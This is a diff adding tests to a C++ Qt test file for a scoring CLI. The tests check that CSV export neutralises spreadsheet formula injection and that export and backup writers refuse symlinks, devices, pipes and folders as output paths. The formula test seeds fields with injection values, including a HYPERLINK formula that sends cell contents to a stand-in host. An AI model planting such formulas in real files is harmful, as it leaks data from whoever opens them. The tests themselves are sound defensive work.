@@ -1,9 +1,19 @@
 // meravel-cli score and export, run in-process on a test program folder.
 #include "CliRun.h"
 #include "TestFolder.h"
+#include "backup/Backup.h"
+#include "data/PrivateFile.h"
 #include "scoring/Scoring.h"
+#include "scoring/XlsxExport.h"
 
+#include <QDir>
 #include <QtTest>
+
+#ifndef Q_OS_WIN
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <unistd.h>
+#endif
 
 namespace {
 CliRun cli(const QStringList& args) { return CliRun::run(args); }
@@ -19,6 +29,9 @@ private slots:
     void scoreStoredAnswers();
     void exportToFileAndStdout();
     void exportRefusesBadArguments();
+    void exportGuardsFormulas();
+    void writersRefuseOddDestinations_data();
+    void writersRefuseOddDestinations();
 
 private:
     TestFolder* m_folder = nullptr;
@@ -164,6 +177,88 @@ void TestCliScoring::exportRefusesBadArguments()
     const CliRun r = cli({"export", "--out", m_folder->file("missing/dir/out.csv")});
     QCOMPARE(r.exit, 1);
     QVERIFY(!r.err.isEmpty());
+}
+
+void TestCliScoring::exportGuardsFormulas()
+{
+    // Text a spreadsheet would evaluate gets a leading apostrophe; numbers never do.
+    QVERIFY(m_folder->exec("UPDATE \"IDE\" SET \"FName\"='=HYPERLINK(\"http://x.invalid/?\"&B2,\"Click\")', "
+                           "\"Tahsil\"='=1+1', \"Group\"='+5', \"LName\"='-2', \"Jens\"='@SUM(A1)' "
+                           "WHERE \"Code\"='1'"));
+    QVERIFY(m_folder->exec("UPDATE \"IDE\" SET \"FName\"='\ttab', \"LName\"='\rcr', "
+                           "\"Tahsil\"='a=1', \"Group\"=' =1', \"V\"='-3' WHERE \"Code\"='2'"));
+    m_folder->addSubject("=3", "Sara", "L");
+    const CliRun r = cli({"export"});
+    QCOMPARE(r.exit, 0);
+    const QStringList lines = r.out.split("\r\n");
+    QVERIFY2(lines.size() >= 5, qPrintable(r.out));
+    QVERIFY2(lines[1].startsWith("1,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&B2,\"\"Click\"\")\",'-2,'@SUM(A1),"),
+             qPrintable(lines[1]));
+    QVERIFY2(lines[1].contains(",'=1+1,'+5,"), qPrintable(lines[1]));
+    // A tab or a carriage return first: guarded, and a CR inside is quoted as before.
+    QVERIFY2(lines[2].startsWith("2,'\ttab,\"'\rcr\","), qPrintable(lines[2]));
+    // Not first, or after a blank: left alone. A negative total stays a number.
+    QVERIFY2(lines[2].contains(",a=1, =1,"), qPrintable(lines[2]));
+    QVERIFY2(lines[2].contains(",-3,"), qPrintable(lines[2]));
+    QVERIFY2(lines[4].startsWith("'=3,Sara,L,"), qPrintable(lines[4]));
+}
+
+void TestCliScoring::writersRefuseOddDestinations_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QStringList>("command");
+    for (const char* kind : {"link", "device", "fifo", "folder"}) {
+        // A pipe would keep the CSV export waiting for a reader before the refusal existed.
+        if (QByteArray(kind) != "fifo")
+            QTest::addRow("csv to a %s", kind) << kind << QStringList{"export", "--out"};
+        QTest::addRow("xlsx to a %s", kind) << kind << QStringList{"export", "--format", "xlsx", "--out"};
+        QTest::addRow("backup to a %s", kind) << kind << QStringList{"backup", "--force"};
+    }
+}
+
+void TestCliScoring::writersRefuseOddDestinations()
+{
+#ifdef Q_OS_WIN
+    QSKIP("links, devices and pipes are made with POSIX calls here");
+#else
+    QFETCH(QString, kind);
+    QFETCH(QStringList, command);
+    QTemporaryDir dir;
+    const QString target = dir.filePath("target.txt"), destination = dir.filePath("out");
+    QFile t(target);
+    QVERIFY(t.open(QIODevice::WriteOnly));
+    t.write("kept");
+    t.close();
+    const QByteArray path = QFile::encodeName(destination);
+    if (kind == "link") {
+        QVERIFY(::symlink(QFile::encodeName(target).constData(), path.constData()) == 0);
+    } else if (kind == "device") {
+        // A null device of one's own (as root): replacing the system's would break every process.
+        if (::mknod(path.constData(), S_IFCHR | 0666, makedev(1, 3)) != 0)
+            QSKIP("making a device needs root");
+    } else if (kind == "fifo") {
+        QVERIFY(::mkfifo(path.constData(), 0600) == 0);
+    } else {
+        QVERIFY(QDir().mkdir(destination));
+    }
+    struct stat before;
+    QVERIFY(::lstat(path.constData(), &before) == 0);
+
+    const CliRun r = cli(command << destination);
+    QCOMPARE(r.exit, 1);
+    QVERIFY2(r.err.contains(PrivateFile::notARegularFileMessage(destination)), qPrintable(r.err));
+    struct stat after;
+    QVERIFY(::lstat(path.constData(), &after) == 0);
+    QCOMPARE(after.st_mode, before.st_mode);
+    QCOMPARE(after.st_ino, before.st_ino);
+    QCOMPARE(after.st_rdev, before.st_rdev);
+    QFile kept(target);
+    QVERIFY(kept.open(QIODevice::ReadOnly));
+    QCOMPARE(kept.readAll(), QByteArray("kept"));
+    // No temporary file is left beside it.
+    QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot),
+             QStringList({"out", "target.txt"}));
+#endif
 }
 
 QTEST_MAIN(TestCliScoring)
